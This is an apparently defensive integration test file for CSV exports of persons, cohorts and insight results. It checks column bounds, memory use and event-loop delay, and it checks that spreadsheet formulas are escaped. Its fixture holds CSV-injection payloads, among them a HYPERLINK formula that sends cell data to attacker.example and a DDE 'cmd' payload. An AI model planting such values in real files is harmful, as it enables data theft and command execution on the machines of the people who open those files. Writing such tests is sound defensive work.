/** @sql-sensitive persons lists exported from SQL */
import { monitorEventLoopDelay } from 'node:perf_hooks';
import request from 'supertest';
import { parseCsv } from '../../libs/persons/src/testing/csv-reader';
import { qs } from '../analytics/history';
import { createCohort } from '../evaluation/factories';
import { waitFor } from '../support/poll';
import { startTestApp, TestApp } from '../support/test-app';
import { ingest, personOf } from './factories';

const OMITTED = 'omitted_values';
const FIXED = ['id', 'uuid', 'name', 'created_at', 'is_identified'];

/** Persons `from`…`to` (exclusive), each with ten property names no other person has. */
async function widePersons(t: TestApp, from: number, to: number): Promise<void> {
  for (let start = from; start < to; start += 500) {
    const batch = [];
    for (let i = start; i < Math.min(to, start + 500); i++) {
      const $set: Record<string, unknown> = { wide: 'yes' };
      for (let k = 0; k < 10; k++) $set[`p${i}_${k}`] = `${i}-${k}`;
      batch.push({
        event: 'signed up',
        distinct_id: `wide-${i}`,
        timestamp: '2024-03-04T12:00:00Z',
        properties: { $set },
      });
    }
    await ingest(t, t.projectToken, batch);
  }
}

/** `path` as CSV, with the figures of the request: time, size, the event loop's worst delay. */
async function exportCsv(t: TestApp, path: string, label: string, figures: string[]) {
  const delay = monitorEventLoopDelay({ resolution: 10 });
  const rss = process.memoryUsage().rss;
  delay.enable();
  const started = performance.now();
  const res = await request(t.baseUrl)
    .get(path)
    .set('Authorization', `Bearer ${t.key}`)
    .buffer(true)
    .parse((r, done) => {
      let text = '';
      r.setEncoding('utf8');
      r.on('data', (chunk: string) => (text += chunk));
      r.on('end', () => done(null, text));
    });
  delay.disable();
  const maxDelayMs = Math.round(delay.max / 1e6);
  figures.push(
    `${label}: ${res.status} in ${Math.round(performance.now() - started)} ms, ` +
      `${Math.round(String(res.body).length / 1024)} KiB, loop max delay ${maxDelayMs} ms, ` +
      `RSS +${Math.round((process.memoryUsage().rss - rss) / 2 ** 20)} MB`,
  );
  return {
    status: res.status,
    type: String(res.headers['content-type']),
    rows: parseCsv(String(res.body)),
    maxDelayMs,
  };
}

describe('CSV exports: streamed, bounded, formulas defused', () => {
  let t: TestApp;
  let base: string;
  const figures: string[] = [];

  beforeAll(async () => {
    t = await startTestApp();
    base = `/api/projects/${t.projectId}`;
    await widePersons(t, 0, 2_500);
    // The newest person, with the most events: its columns are among the first each export keeps.
    await ingest(t, t.projectToken, [
      { event: 'signed up', distinct_id: 'mallory', timestamp: '2024-03-04T12:01:00Z' },
      {
        event: 'signed up',
        distinct_id: 'mallory',
        timestamp: '2024-03-04T12:00:00Z',
        properties: {
          $set: {
            wide: 'yes',
            formula: '=HYPERLINK("https://attacker.example/?"&A1,"Click")',
            plus: '+cmd|" /C calc"!A0',
            minus: '-2+3',
            at: '@SUM(A1:A2)',
            tab: '\t=1+1',
            cr: '\r=1+1',
            negative: -5,
            plain: 'hello',
          },
        },
      },
    ]);
  });
  afterAll(async () => {
    process.stdout.write(`CSV: ${figures.join('; ')}\n`);
    await t?.close();
  });

  /** The cells of `distinctId`'s row, by column. */
  const rowOf = (rows: string[][], distinctId: string) => {
    const [header, ...body] = rows;
    const row = body.find((r) => r[header.indexOf('distinct_ids.0')] === distinctId)!;
    return Object.fromEntries(header.map((h, i) => [h, row[i]]));
  };

  const expectDefused = (cells: Record<string, string>) => {
    expect(cells).toMatchObject({
      'properties.formula': `'=HYPERLINK("https://attacker.example/?"&A1,"Click")`,
      'properties.plus': `'+cmd|" /C calc"!A0`,
      'properties.minus': `'-2+3`,
      'properties.at': `'@SUM(A1:A2)`,
      'properties.tab': `'\t=1+1`,
      'properties.cr': `'\r=1+1`,
      'properties.negative': '-5',
      'properties.plain': 'hello',
    });
  };

  /** Every column is a fixed field, one of at most CSV_MAX_COLUMNS nested ones, or the note. */
  const expectBounded = (header: string[]) => {
    expect(header.slice(0, 5)).toEqual(FIXED);
    expect(header.at(-1)).toBe(OMITTED);
    expect(header.length).toBeLessThanOrEqual(FIXED.length + t.config.CSV_MAX_COLUMNS + 1);
  };

  it('lists 2,500 persons with 25,000 property names in bounded columns, without blocking', async () => {
    const csv = await exportCsv(t, `${base}/persons/?format=csv`, 'persons 2,500', figures);
    expect(csv.status).toBe(200);
    expect(csv.type).toMatch(/^text\/csv/);
    const [header, ...rows] = csv.rows;
    expectBounded(header);
    expect(rows).toHaveLength(2_501);
    // The newest persons' columns come first; older persons' values are counted in the note.
    const newest = rowOf(csv.rows, 'wide-2499');
    expect(newest['properties.p2499_0']).toBe('2499-0');
    expect(newest[OMITTED]).toBe('');
    expect(rowOf(csv.rows, 'wide-0')[OMITTED]).toBe(
      `Note: 10 value(s) left out: over ${t.config.CSV_MAX_COLUMNS} columns`,
    );
    expectDefused(rowOf(csv.rows, 'mallory'));
    expect(csv.maxDelayMs).toBeLessThan(1_500);
  });

  it('exports one person, its formulas defused', async () => {
    const mallory = (await personOf(t, 'mallory'))!;
    const csv = await exportCsv(t, `${base}/persons/${mallory.id}/?format=csv`, 'one person', figures);
    expect(csv.status).toBe(200);
    expect(csv.rows).toHaveLength(2);
    expectDefused(rowOf(csv.rows, 'mallory'));
    expect(csv.rows[0]).not.toContain(OMITTED);
  });

  it('exports a cohort’s persons, bounded and defused', async () => {
    const cohort = await createCohort(t, {
      name: 'Wide',
      filters: { properties: { type: 'AND', values: [{ key: 'wide', type: 'person', value: 'yes' }] } },
    });
    await waitFor(
      async () => ((await t.get(`${base}/cohorts/${cohort.id}/`)).body.is_calculating ? undefined : true),
      30_000,
    );
    const csv = await exportCsv(t, `${base}/cohorts/${cohort.id}/persons/?format=csv`, 'cohort 2,500', figures);
    expect(csv.status).toBe(200);
    expectBounded(csv.rows[0]);
    expect(csv.rows).toHaveLength(2_502);
    expectDefused(rowOf(csv.rows, 'mallory'));
    expect(csv.maxDelayMs).toBeLessThan(1_500);
  });

  it('exports the persons behind an insight, bounded and defused', async () => {
    const params = { entity_id: 'signed up', date_from: '2024-03-04', date_to: '2024-03-04', format: 'csv' };
    const csv = await exportCsv(t, `${base}/persons/trends/?${qs(params)}`, 'trends 2,500', figures);
    expect(csv.status).toBe(200);
    const header = csv.rows[0];
    expect(header.slice(0, 5)).toEqual(FIXED);
    expect(header.at(-2)).toBe('value_at_data_point');
    expect(header.at(-1)).toBe(OMITTED);
    expect(csv.rows).toHaveLength(2_502);
    expectDefused(rowOf(csv.rows, 'mallory'));
    expect(csv.maxDelayMs).toBeLessThan(1_500);
  });

  it('exports 10,000 persons with 100,000 property names within memory and string limits', async () => {
    await widePersons(t, 2_500, 10_000);
    const csv = await exportCsv(t, `${base}/persons/?format=csv`, 'persons 10,000', figures);
    expect(csv.status).toBe(200);
    expectBounded(csv.rows[0]);
    expect(csv.rows).toHaveLength(10_001);
    expect(csv.maxDelayMs).toBeLessThan(1_500);
  }, 240_000);
});
